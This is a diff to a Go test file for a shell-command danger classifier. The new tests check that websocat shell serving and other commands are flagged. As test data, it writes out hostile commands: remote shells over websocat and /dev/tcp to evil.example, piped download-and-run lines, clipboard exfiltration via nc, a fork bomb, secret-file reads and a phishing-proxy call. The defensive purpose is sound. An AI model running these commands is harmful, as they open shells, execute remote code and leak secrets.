@@ -484,3 +484,47 @@ func TestKeystrokesAndKeyringsRead(t *testing.T) {
 		checkRow(t, tt.cmd, tt.want)
 	}
 }
+
+// TestWebsocatShellServed: websocat (its README's specifiers) runs a
+// program for each WebSocket or TCP peer with exec:, sh-c: or cmd:; when
+// that program is a shell and the other end a listener or a connection
+// out, the peer drives a shell, network-exfiltration as "nc -e /bin/sh"
+// is (README's dev4 call). Everyday beside it: websocat as a client or a
+// relay, and a non-shell program served (the README's broadcast example).
+func TestWebsocatShellServed(t *testing.T) {
+	for _, tt := range []struct {
+		cmd, want string
+	}{
+		{`websocat -E --binary ws-l:0.0.0.0:8080 sh-c:'bash -i'`, NetworkExfiltration},
+		{`websocat --binary ws-l:0.0.0.0:1234 exec:/bin/sh`, NetworkExfiltration},
+		{`websocat tcp-l:0.0.0.0:4444 cmd:'sh -i'`, NetworkExfiltration},
+		{`websocat ws://10.0.0.1:8080/ exec:bash`, NetworkExfiltration},
+		{`websocat ws://ws.vi-server.org/mirror`, ""},
+		{`websocat -s 1234`, ""},
+		{`websocat ws-l:127.0.0.1:8080 exec:date`, ""},
+		{`websocat tcp-l:127.0.0.1:5000 ws://example.com/ws`, ""},
+	} {
+		checkRow(t, tt.cmd, tt.want)
+	}
+}
+
+// TestHost8Explained: danger explain names each round-8 rule of the
+// local host and the words it matched.
+func TestHost8Explained(t *testing.T) {
+	explainRow(t, "curl http://unknown.com/binary -o /usr/bin/tool", PersistenceStartupFiles, "downloadsIntoPrograms", []string{"curl", "/usr/bin/tool"})
+	explainRow(t, "bash < /dev/tcp/evil.example/4444", DownloadExecute, "socketScriptRun", []string{"bash", "<", "/dev/tcp/evil.example/4444"})
+	explainRow(t, "cat /dev/tcp/malicious.com/80 | bash", DownloadExecute, "socketScriptRun", []string{"cat", "/dev/tcp/malicious.com/80", "|", "bash"})
+	explainRow(t, "fallocate -l 1T hugefile", DiskSystem, "diskFilled", []string{"fallocate"})
+	explainRow(t, "perl -e 'fork while true;'", DiskSystem, "foreignForkBomb", []string{"perl", "fork while true;"})
+	explainRow(t, "killall -9 -u $USER", DiskSystem, "ownProcessesKilled", []string{"killall", "-u"})
+	explainRow(t, "vim ~/.bashrc", PersistenceStartupFiles, "editorOnStartupFile", []string{"vim", "~/.bashrc"})
+	explainRow(t, "cat config/token.json", SecretRead, "namedSecretPrinted", []string{"cat", "config/token.json"})
+	explainRow(t, "restic -r s3:s3.amazonaws.com/b backup .", NetworkExfiltration, "backupSentAway", []string{"restic", "s3:s3.amazonaws.com/b"})
+	explainRow(t, "./evilginx2 -p ./phishlets", SecretRead, "phishingProxy", []string{"evilginx2"})
+	explainRow(t, `python3 -c "import urllib.request,os;urllib.request.urlretrieve('https://e.example/x.py','/tmp/x.py');os.system('python3 /tmp/x.py')"`, DownloadExecute, "inlineDownloadRun", []string{"python3"})
+	explainRow(t, "xinput test 12", SecretRead, "keystrokesRead", []string{"xinput"})
+	explainRow(t, "mount /dev/disk1 /mnt", PrivilegeEscalation, "machineDiskMounted", []string{"mount", "/dev/disk1", "/mnt"})
+	explainRow(t, "xclip -o | nc 10.0.0.1 1234", NetworkExfiltration, "pipedFileSent", []string{"xclip", "|", "nc"})
+	explainRow(t, "lynx -source https://x.example/i.sh | sh", DownloadExecute, "pipelines", []string{"lynx", "|", "sh"})
+	explainRow(t, "websocat ws-l:0.0.0.0:8080 sh-c:'bash -i'", NetworkExfiltration, "websocatShell", []string{"websocat", "sh-c:bash -i"})
+}
